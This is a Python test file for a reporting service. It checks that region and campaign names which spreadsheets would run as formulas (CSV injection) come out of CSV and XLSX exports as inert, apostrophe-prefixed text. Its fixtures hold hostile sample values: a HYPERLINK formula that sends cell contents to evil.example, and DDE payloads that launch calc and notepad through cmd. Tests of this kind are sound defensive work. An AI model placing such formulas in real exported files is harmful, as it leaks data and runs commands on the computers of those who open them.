"""Issue 21, finding 3: names that a spreadsheet would run as formulas (OWASP
CSV injection) come out of every CSV and XLSX as inert text: a leading
apostrophe, and XLSX text cells stored as strings, never as `<f>`."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import text

from shared import clock
from shared.auth import issue_token
from shared.spreadsheets import FORMULA_STARTS, csv_cells, neutralised, xlsx_cells
from tests.services.reporting.campaign_dataset import CAMPAIGN, load_campaign
from tests.services.reporting.dataset import COUNTY, NOW, TOWN_A, VILLAGE_A1

HOSTILE = {
    TOWN_A: '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    VILLAGE_A1: "@SUM(1+1)*cmd|' /C calc'!A0",
}
CAMPAIGN_NAME = "+cmd|' /C notepad'!A1"


@pytest.fixture(autouse=True)
def _frozen():
    with clock.frozen_at(NOW):
        yield


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(start):
    assert neutralised(f"{start}1+1") == f"'{start}1+1"
    assert csv_cells([f"{start}x", None, -3, 2.5, "眉县"]) == [f"'{start}x", "", -3, 2.5, "眉县"]


def test_xlsx_text_cells_are_strings_even_when_they_look_like_formulas():
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("t")
    sheet.append(xlsx_cells(sheet, ["=1+1", "-2", 7, None]))
    buffer = io.BytesIO()
    workbook.save(buffer)
    [row] = load_workbook(io.BytesIO(buffer.getvalue())).worksheets[0].iter_rows()
    assert [(c.value, c.data_type) for c in row[:3]] == [("'=1+1", "s"), ("'-2", "s"), (7, "n")]


@pytest.fixture
async def hostile_names(session):
    await load_campaign(session)
    for code, name in HOSTILE.items():
        await session.execute(
            text("UPDATE regions SET name = :name WHERE code = :code"), {"code": code, "name": name}
        )
    await session.execute(
        text("UPDATE campaigns SET name = :name WHERE campaign_id = :id"),
        {"name": CAMPAIGN_NAME, "id": CAMPAIGN},
    )


async def _progress_table(client, session, output: str) -> bytes:
    _, token = await issue_token(session, kind="user", name="v", role="viewer", region_code=COUNTY)
    answer = await client.get(
        "/reporting/v1/progress_table",
        params={"campaign_id": CAMPAIGN, "format": output},
        headers={"Authorization": f"Bearer {token}"},
    )
    assert answer.status_code == 200, answer.text
    return answer.content


async def test_the_progress_table_csv_holds_no_live_formula(client, session, hostile_names):
    content = await _progress_table(client, session, "csv")
    cells = [c for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for c in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    for name in HOSTILE.values():
        assert "'" + name in cells


async def test_the_progress_table_xlsx_holds_no_formula(client, session, hostile_names):
    content = await _progress_table(client, session, "xlsx")
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if t.startswith(FORMULA_STARTS)]
    assert {"'" + name for name in HOSTILE.values()} <= set(texts)
    assert texts[0].startswith("'+cmd")  # the title begins with the campaign's name
